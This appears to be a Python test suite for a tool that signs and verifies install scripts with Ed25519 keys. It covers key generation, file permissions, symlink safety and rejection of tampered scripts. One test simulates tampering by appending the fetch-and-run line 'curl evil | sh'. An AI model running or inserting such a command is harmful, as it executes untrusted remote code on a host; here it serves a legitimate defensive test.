"""``verify-install`` and ``sign-script``: files in, exit code and files out."""

from __future__ import annotations

import base64
import contextlib
import io
import os
import subprocess
import tempfile
import unittest
from collections.abc import Iterator
from pathlib import Path
from unittest import mock

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
    load_pem_public_key,
)

from identree.agent import ed25519, main, signing
from tests.agent.harness import archive, interpreters

SCRIPT = b"#!/bin/bash\nset -euo pipefail\n"


class SigningCase(unittest.TestCase):
    """:ivar out, err: what the last command said."""

    def setUp(self) -> None:
        temporary = tempfile.TemporaryDirectory()
        self.addCleanup(temporary.cleanup)
        self.directory = Path(temporary.name)
        self.script = self.directory / "install.sh"
        self.script.write_bytes(SCRIPT)
        self.sig = self.directory / "install.sh.sig"
        self.secret = Ed25519PrivateKey.generate()
        self.key, self.pub = self.directory / "k.key", self.directory / "k.pub"
        self.key.write_bytes(self.secret.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
        self.key.chmod(0o600)
        self.pub.write_bytes(self.secret.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
        self.sig.write_text(base64.b64encode(self.secret.sign(SCRIPT)).decode().rstrip("="))
        self.out = self.err = ""

    @contextlib.contextmanager
    def heard(self) -> Iterator[None]:
        out, err = io.StringIO(), io.StringIO()
        with (
            mock.patch.object(signing, "note", lambda line: print(line, file=out)),
            mock.patch.object(main, "complain", lambda line: print(line, file=err)),
        ):
            yield
        self.out, self.err = out.getvalue(), err.getvalue()

    def verify(self, *more: str, **changed: str) -> int:
        options = {"key": str(self.pub), "script": str(self.script), "sig": str(self.sig), **changed}
        with self.heard():
            return signing.verify_install([w for k, v in options.items() for w in (f"--{k}", v)] + list(more))

    def sign(self, *arguments: str) -> int:
        with self.heard():
            return signing.sign_script(list(arguments))


class VerifyTests(SigningCase):
    def test_good(self) -> None:
        """OK on standard output, whatever the padding and the white space around the signature."""
        self.assertEqual(self.verify(), 0)
        self.assertTrue(self.out.startswith("OK"))
        self.assertEqual(self.err, "")
        self.sig.write_text(f"\n {base64.b64encode(self.secret.sign(SCRIPT)).decode()} \r\n")
        self.assertEqual(self.verify(), 0)

    def test_bad(self) -> None:
        """A changed script: two lines of warning on standard error."""
        self.script.write_bytes(SCRIPT + b"curl evil | sh\n")
        self.assertEqual(self.verify(), 1)
        self.assertEqual((self.out, len(self.err.splitlines())), ("", 2))
        self.assertIn("Do not run it", self.err)

    def test_other_key(self) -> None:
        """A script that somebody else signed."""
        self.sig.write_text(base64.b64encode(Ed25519PrivateKey.generate().sign(SCRIPT)).decode())
        self.assertEqual(self.verify(), 1)

    def test_options(self) -> None:
        """All three are needed; unknown ones are passed over; both ways of giving values work."""
        with self.heard():
            self.assertEqual(signing.verify_install(["--key", str(self.pub), "--script", str(self.script)]), 1)
        self.assertIn("usage:", self.err)
        self.assertEqual(self.verify("--verbose", "--color=never"), 0)
        with self.heard():
            equals = [f"--key={self.pub}", f"--script={self.script}", f"--sig={self.sig}"]
            self.assertEqual(signing.verify_install(equals), 0)

    def test_mistakes(self) -> None:
        """Files that are missing, the wrong half of the key, no signature: one line names the file."""
        for changed, word in (
            ({"script": "/no/such"}, "/no/such cannot be read"),
            ({"key": str(self.key)}, "private key"),
            ({"key": str(self.script)}, "no key"),
            ({"sig": str(self.script)}, "no signature"),
        ):
            with self.subTest(word):
                self.assertEqual(self.verify(**changed), 1)
                self.assertIn(word, self.err)
                self.assertEqual(len(self.err.splitlines()), 1)

    def test_every_python(self) -> None:
        """The archive verifies on every Python that hosts have, with nothing installed."""
        for version, path in interpreters().items():
            with self.subTest(version):
                code = (
                    "import sys; sys.path.insert(0, sys.argv[1])\nfrom identree.agent import signing\n"
                    "sys.exit(signing.verify_install(sys.argv[2:]))"
                )
                command = [path, "-ISB", "-c", code, archive()]
                options = ["--key", self.pub, "--script", self.script, "--sig", self.sig]
                done = subprocess.run([*command, *map(str, options)], capture_output=True, text=True, timeout=60)
                self.assertEqual((done.returncode, done.stdout[:2]), (0, "OK"), done)


class SignTests(SigningCase):
    def test_sign(self) -> None:
        """The signature goes to the file (0600) and to standard output, without padding."""
        self.sig.unlink()
        self.assertEqual(self.sign("--key", str(self.key), "--script", str(self.script)), 0, self.err)
        text = self.sig.read_text()
        self.assertEqual((self.out, len(text), text[-1]), (text, 87, "\n"))
        self.assertEqual(self.sig.stat().st_mode & 0o777, 0o600)
        self.secret.public_key().verify(base64.b64decode(text.strip() + "=="), SCRIPT)
        self.assertEqual(self.verify(), 0)

    def test_open_key(self) -> None:
        """A key that others can read is used, with a warning."""
        self.key.chmod(0o644)
        self.assertEqual(self.sign("--key", str(self.key), "--script", str(self.script)), 0)
        self.assertIn("chmod 600", self.err)

    def test_generate(self) -> None:
        """A pair: private 0600, public 0644, in our own form; and it signs and verifies."""
        key = self.directory / "install-signing.key"
        self.assertEqual(self.sign("--generate-key", "--key", str(key), "--script", str(self.script)), 0, self.err)
        public = self.directory / "install-signing.pub"
        self.assertEqual((key.stat().st_mode & 0o777, public.stat().st_mode & 0o777), (0o600, 0o644))
        self.assertIn("BEGIN ED25519 PRIVATE KEY", key.read_text())
        self.assertIn("BEGIN ED25519 PUBLIC KEY", public.read_text())
        self.assertEqual(self.verify(key=str(public)), 0)
        seed = ed25519.private_key(key.read_text())
        raw = Ed25519PrivateKey.from_private_bytes(seed).public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        self.assertEqual(ed25519.public_key(public.read_text()), raw)

    def test_generate_here(self) -> None:
        """Without --key the two usual names, in this directory."""
        before = os.getcwd()
        os.chdir(self.directory)
        self.addCleanup(os.chdir, before)
        self.assertEqual(self.sign("--generate-key"), 0)
        self.assertTrue((self.directory / "install-signing.key").exists())
        self.assertTrue((self.directory / "install-signing.pub").exists())

    def test_never_overwritten(self) -> None:
        """A key that is there stays, and so does a lone public half or a dangling link."""
        for name in ("n.key", "n.pub"):
            path = self.directory / name
            path.symlink_to("/no/such/file")
            self.assertEqual(self.sign("--generate-key", "--key", str(self.directory / "n.key")), 1)
            self.assertIn("exists", self.err)
            self.assertEqual(sorted(p.name for p in self.directory.glob("n.*")), [name])
            path.unlink()

    def test_link_in_the_way(self) -> None:
        """A symbolic link where the signature goes is not written through."""
        target = self.directory / "target"
        self.sig.unlink()
        self.sig.symlink_to(target)
        self.assertEqual(self.sign("--key", str(self.key), "--script", str(self.script)), 1)
        self.assertFalse(target.exists())

    def test_usage(self) -> None:
        """Too little is the usage; a public key is named as such; no file is left behind."""
        self.assertEqual(self.sign("--script", str(self.script)), 1)
        self.assertIn("usage:", self.err)
        self.assertEqual(self.sign(), 1)
        self.sig.unlink()
        self.assertEqual(self.sign("--key", str(self.pub), "--script", str(self.script)), 1)
        self.assertIn("public key", self.err)
        self.assertFalse(self.sig.exists())

    def test_no_signer(self) -> None:
        """Where nothing signs, nothing is written."""

        def none() -> ed25519.Signer:
            raise ed25519.CannotSign("neither is here")

        self.sig.unlink()
        with self.heard():
            code = signing.sign_script(["--key", str(self.key), "--script", str(self.script)], signer=none)
        self.assertEqual((code, self.sig.exists()), (1, False))

    def test_by_openssl(self) -> None:
        """Through openssl alone the public key is the standard's as well."""
        with mock.patch.object(ed25519, "_find_cryptography", lambda: None):
            key = self.directory / "o.key"
            self.assertEqual(self.sign("--generate-key", "--key", str(key), "--script", str(self.script)), 0, self.err)
        public = ed25519.public_key((self.directory / "o.pub").read_text())
        spki = ed25519.pem("PUBLIC KEY", bytes.fromhex("302a300506032b6570032100") + public)
        loaded = load_pem_public_key(spki.encode())
        loaded.verify(base64.b64decode(self.sig.read_text().strip() + "=="), SCRIPT)  # type: ignore[union-attr,call-arg,arg-type]
